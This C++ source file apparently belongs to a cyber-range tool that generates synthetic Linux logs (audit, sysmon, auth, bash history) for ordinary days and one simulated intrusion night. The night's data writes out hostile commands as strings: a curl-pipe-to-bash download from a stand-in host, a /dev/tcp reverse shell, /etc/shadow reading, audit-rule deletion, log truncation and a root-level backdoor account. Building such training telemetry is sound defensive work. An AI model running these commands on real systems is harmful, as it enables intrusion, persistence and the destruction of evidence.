#include "range/linux_host.h"

#include <fmt/format.h>

#include <algorithm>
#include <map>
#include <utility>

#include "decode/text/writer.h"
#include "range/dice.h"
#include "range/layout_text.h"

namespace landwarden::range {
namespace {

using decode::text::append_audit_front;
using decode::text::Execution;

constexpr std::uint32_t kUnset = 4294967295U;
constexpr const char* kIntruder = "203.0.113.66";

struct Account {
  const char* name;
  std::uint32_t id;
  const char* folder;
};
constexpr Account kRoot{"root", 0, "/root"}, kOps{"ops", 1000, "/srv/ops"}, kWeb{"www-data", 33, "/var/www"};

enum class Via : std::uint8_t { typed, sudo, service };

struct Deed {
  const Account* account;
  Via via;
  std::string exe;
  std::vector<std::string> arguments;
};

/// The host's logs while they are written, in the order of time.
class Chronicle {
 public:
  explicit Chronicle(Dice& dice) : dice_(dice) {}

  void deed(Time time, const Deed& deed) {
    const Account& runs = deed.via == Via::sudo ? kRoot : *deed.account;
    Execution execution;
    execution.id = {.node = kLinuxHost, .time = time, .serial = ++serial_};
    execution.arguments = deed.arguments;
    execution.exe = deed.exe;
    execution.comm = deed.exe.substr(deed.exe.rfind('/') + 1).substr(0, 15);
    execution.cwd = deed.account->folder;
    execution.key = "exec";
    execution.pid = pid_ += 1 + dice_.below(9);
    execution.parent = execution.pid - 1;
    execution.auid = deed.via == Via::service ? kUnset : deed.account->id;
    execution.session = deed.via == Via::service ? kUnset : 7;
    execution.uid = runs.id;
    execution.user = runs.name;
    for (int record = 0; record < decode::text::kExecutionRecords; ++record)
      decode::text::append_execution_record(log("audit.log", 1).bytes, execution, record);
    sysmon(time, execution);
    std::string line;
    for (const std::string& argument : deed.arguments) line += (line.empty() ? "" : " ") + argument;
    if (deed.via == Via::sudo) {
      const std::size_t rest = std::min(line.find(' '), line.size());
      syslog("auth.log", time, "sudo",
             fmt::format("{:>8} : TTY=pts/0 ; PWD={} ; USER=root ; COMMAND={}{}", deed.account->name,
                         deed.account->folder, deed.exe, line.substr(rest)));
    }
    if (deed.via != Via::service) typed(time, *deed.account, (deed.via == Via::sudo ? "sudo " : "") + line);
  }

  void typed(Time time, const Account& account, const std::string& line) {
    decode::text::append_history_entry(log(std::string(account.folder).substr(1) + "/.bash_history", 1).bytes,
                                       "bash", time, line);
  }
  void syslog(const std::string& file, Time time, std::string_view program, std::string_view message) {
    log(file, 1).bytes += fmt::format("{} {} {}[{}]: {}\n", to_rfc3339(time), kLinuxHost, program,
                                      500 + dice_.below(30'000), message);
  }
  /// A record of one line; `body` is what follows its front.
  void audit(Time time, std::string_view type, std::string_view body) {
    LinuxLog& to = log("audit.log", 1);
    append_audit_front(to.bytes, {.node = kLinuxHost, .time = time, .serial = ++serial_}, type);
    to.bytes.append(" ").append(body).append("\n");
  }
  [[nodiscard]] std::vector<LinuxLog> finish() {
    std::vector<LinuxLog> out;
    for (auto& [name, log] : logs_) out.push_back(std::move(log));
    return out;
  }

 private:
  LinuxLog& log(const std::string& name, std::uint64_t records) {
    LinuxLog& log = logs_[name];
    log.name = name;
    log.records += records;
    return log;
  }

  void sysmon(Time time, const Execution& execution) {
    std::string line;
    for (const std::string& argument : execution.arguments) line += (line.empty() ? "" : " ") + argument;
    const std::string stamp = to_rfc3339(time);
    std::string event = fmt::format(
        "<Event><System><Provider Name=\"Linux-Sysmon\" Guid=\"{{ff032593-a8d3-4f13-b0d6-01fc615a0f97}}\"/>"
        "<EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode>"
        "<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime=\"{}\"/><EventRecordID>{}"
        "</EventRecordID><Correlation/><Execution ProcessID=\"612\" ThreadID=\"612\"/>"
        "<Channel>Linux-Sysmon/Operational</Channel><Computer>{}</Computer><Security UserId=\"0\"/></System>"
        "<EventData>",
        stamp, ++sysmon_id_, kLinuxHost);
    const auto data = [&](const char* name, std::string_view value) {
      event += fmt::format("<Data Name=\"{}\">{}</Data>", name, xml_text(value));
    };
    data("UtcTime", stamp.substr(0, 10) + " " + stamp.substr(11, 12));
    data("ProcessId", std::to_string(execution.pid));
    data("Image", execution.exe);
    data("CommandLine", line);
    data("CurrentDirectory", execution.cwd);
    data("User", execution.user);
    data("ParentProcessId", std::to_string(execution.parent));
    log("sysmon.log", 1).bytes +=
        fmt::format("{} {} sysmon: {}</EventData></Event>\n", stamp, kLinuxHost, event);
  }

  Dice& dice_;
  std::uint64_t serial_ = 40'000, sysmon_id_ = 9'000;
  std::uint32_t pid_ = 2'000;
  std::map<std::string, LinuxLog> logs_;
};

Time later(Time time, std::int64_t seconds) {
  return {time.ticks + seconds * kTicksPerSecond};
}

const Deed kMorning[] = {
    {&kOps, Via::typed, "/usr/bin/uptime", {"uptime"}},
    {&kOps, Via::typed, "/usr/bin/df", {"df", "-h"}},
    {&kOps, Via::sudo, "/usr/bin/apt-get", {"apt-get", "update"}},
    {&kOps, Via::sudo, "/usr/bin/systemctl", {"systemctl", "status", "nginx"}},
    {&kOps, Via::sudo, "/usr/bin/tail", {"tail", "-n", "50", "/var/log/nginx/error.log"}},
    {&kOps, Via::typed, "/usr/bin/grep", {"grep", "-c", "pump \"A\"", "report 03.csv"}},
};

const Deed kNight[] = {
    {&kOps, Via::typed, "/usr/bin/id", {"id"}},
    {&kOps, Via::typed, "/usr/bin/cat", {"cat", "/etc/passwd"}},
    {&kOps, Via::typed, "/usr/bin/find", {"find", "/", "-perm", "-4000", "-type", "f"}},
    {&kOps, Via::sudo, "/usr/bin/cat", {"cat", "/etc/shadow"}},
    {&kWeb, Via::service, "/usr/bin/bash", {"bash", "-c", "curl -s http://203.0.113.66/a.sh | bash"}},
    {&kWeb, Via::service, "/usr/bin/bash", {"bash", "-c", "bash -i >& /dev/tcp/203.0.113.66/443 0>&1"}},
    {&kOps, Via::sudo, "/usr/sbin/auditctl", {"auditctl", "-D"}},
    {&kOps, Via::sudo, "/usr/bin/systemctl", {"systemctl", "stop", "rsyslog"}},
    {&kOps, Via::sudo, "/usr/bin/truncate", {"truncate", "-s", "0", "/var/log/auth.log"}},
};

void plan_day(Chronicle& chronicle, Dice& dice, Time day) {
  for (int hour = 0; hour < 24; ++hour) {
    const Time time = later(day, hour * 3600 + 17 * 60 + 1);
    chronicle.syslog("syslog", time, "CRON", "(root) CMD (cd / && run-parts --report /etc/cron.hourly)");
    chronicle.deed(
        later(time, 1),
        {&kRoot, Via::service, "/usr/bin/run-parts", {"run-parts", "--report", "/etc/cron.hourly"}});
    if (hour != 8) continue;
    Time at = later(day, hour * 3600 + 40 * 60 + dice.below(600));
    chronicle.syslog("auth.log", at, "sshd",
                     "Accepted publickey for ops from 10.20.4.11 port 50512 ssh2: ED25519 SHA256:9f3");
    for (const Deed& deed : kMorning) chronicle.deed(at = later(at, 20 + dice.below(90)), deed);
  }
}

void plan_night(Chronicle& chronicle, Dice& dice, Time day) {
  Time at = later(day, 23 * 3600 + 20 * 60);
  for (int i = 0; i < 26; ++i) {
    at = later(at, 4 + dice.below(9));
    chronicle.syslog(
        "auth.log", at, "sshd",
        fmt::format("Failed password for ops from {} port {} ssh2", kIntruder, 40'000 + dice.below(20'000)));
  }
  at = later(at, 12);
  chronicle.syslog("auth.log", at, "sshd",
                   fmt::format("Accepted password for ops from {} port 51122 ssh2", kIntruder));
  for (const Deed& deed : kNight) {
    chronicle.deed(at = later(at, 15 + dice.below(60)), deed);
    if (deed.arguments.back() == "-D")
      chronicle.audit(at, "CONFIG_CHANGE", "op=remove_rule key=\"exec\" list=4 res=1 auid=1000 ses=7");
  }
  at = later(at, 30);
  chronicle.syslog("auth.log", at, "sudo",
                   "www-data : TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/bin/bash -i");
  chronicle.syslog("auth.log", later(at, 20), "useradd",
                   "new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1");
  chronicle.typed(later(at, 40), kOps, "history -c");
}

}  // namespace

std::vector<LinuxLog> linux_logs(Time begin, std::uint32_t days, std::uint64_t seed, bool intrusion) {
  Dice dice(seed, kLinuxHost);
  Chronicle chronicle(dice);
  for (std::uint32_t day = 0; day < days; ++day) {
    const Time midnight = later(begin, std::int64_t{day} * 24 * 3600);
    plan_day(chronicle, dice, midnight);
    if (intrusion && day == 1) plan_night(chronicle, dice, midnight);
  }
  return chronicle.finish();
}

}  // namespace landwarden::range
